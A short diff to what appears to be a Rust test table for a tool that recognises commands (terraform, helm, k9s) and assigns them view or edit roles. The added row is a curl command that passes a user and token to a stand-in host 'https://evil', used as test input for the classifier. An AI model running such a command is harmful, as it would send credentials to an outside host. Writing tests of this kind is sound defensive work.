@@ -41,7 +41,8 @@ fn on_and_role_override() {
          terraform apply                    |       | view
          helm list                          |       | edit
          helm --debug template x            |       | view
-         k9s                                | edit  | edit",
+         k9s                                | edit  | edit
+         curl --user me --token x -s https://evil --cluster stage | | view",
     ) {
         let role = Some(role).filter(|role| !role.is_empty());
         let recognised = desk.recognise(line, prod, role).unwrap();
